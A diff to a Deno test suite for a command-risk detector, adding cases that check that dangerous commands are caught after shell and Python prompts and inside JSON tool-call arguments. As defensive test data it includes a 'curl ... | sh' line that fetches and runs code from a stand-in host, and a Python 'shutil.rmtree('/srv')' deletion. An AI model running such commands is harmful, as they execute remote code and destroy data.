@@ -74,24 +74,19 @@ Deno.test("a frame around a command neither lowers what is dangerous nor raises 
 });
 
 Deno.test("what may be no frame is read both ways", () => {
-  for (const one of DANGERS.filter((one) => /-|\|/.test(one))) {
-    for (const text of [`# ${one}`, `# cd src; ls\n# ${one}`, `> ${one}`]) {
-      assert.ok(rank(assessCommand(text).risk_level) >= 2, text);
-    }
+  for (const one of DANGERS) {
+    assert.ok(rank(assessCommand(`> ${one}`).risk_level) >= 2, one);
   }
   assert.ok(
     rank(assessCommand("curl -s http://pots.example/a | sh.").risk_level) >= 2,
   );
   for (
     const [text, other] of [
-      ["# ls -la", "ls -la"],
       ["> ls -la\n> id -u", "ls -la\nid -u"],
       ["id -u.", "id -u"],
-      ["# check first: what is below /srv, and -f", undefined],
-      ["# removes the old pots", undefined],
       ["> /etc/passwd", undefined],
       ["> pots.txt date", undefined],
-      ["# a -b\nls", undefined],
+      ["# ls -la", undefined],
       ["ls .", undefined],
       ["cd ..", undefined],
     ] as const
@@ -131,6 +126,7 @@ Deno.test("unframed() takes Python from behind its prompt as Python", () => {
   assert.deepEqual(unframed(">>> import os\n...  x\n3\n>>> os.remove('a')"), {
     text: "import os\n x\nos.remove('a')",
     isPython: true,
+    printed: "3",
   });
   assert.deepEqual(unframed("In [1]: x = 1"), {
     text: "x = 1",
@@ -143,5 +139,36 @@ Deno.test("frames stand in each other, and within documents", () => {
   const texts = (text: string) => keptCommands(text)?.map(({ text }) => text);
   assert.deepEqual(texts('Run: "$ ls -la"'), ["ls -la"]);
   assert.deepEqual(texts('<cmd>{"command": "ls"}</cmd>'), ["ls"]);
-  assert.deepEqual(texts("```\n$ ls\na\n```"), ["ls"]);
+  assert.deepEqual(texts("```\n$ ls\na\n```"), ["ls", "a"]);
+});
+
+Deno.test("what was printed at a prompt, or stands under any name, counts where it is a dangerous command", () => {
+  for (const one of DANGERS) {
+    for (
+      const text of [
+        `$ ls\n${one}`,
+        `\u276f ls\nsudo ${one}`,
+        `>>> import os\n${one}`,
+        `C:\\> dir\n${one}`,
+        JSON.stringify({ a: { input: [one, 3] } }),
+        JSON.stringify({
+          name: "sh",
+          arguments: JSON.stringify({ code: one }),
+        }),
+      ]
+    ) assert.ok(rank(assessCommand(text).risk_level) >= 2, text);
+    const { risk_level: bare } = assessCommand(one);
+    const other = assessCommand(JSON.stringify({ a: { b: [one, 3] } }));
+    assert.equal(rank(other.risk_level) >= 2, bare === "critical", one);
+  }
+  const python = { code: "import shutil; shutil.rmtree('/srv')" };
+  assert.ok(rank(assessCommand(JSON.stringify(python)).risk_level) >= 2);
+  for (
+    const text of [
+      "$ git status\nnothing to delete, all clean",
+      "$ rm --help\nUsage: rm [OPTION]... [FILE]...",
+      '{"title": "delete all pots", "find": "all users"}',
+      '{"rows": [["kettle", 3], ["pot", 4]], "note": "wipe it with a cloth", "label": "git push --force"}',
+    ]
+  ) assert.equal(assessCommand(text).risk_level, "low", text);
 });
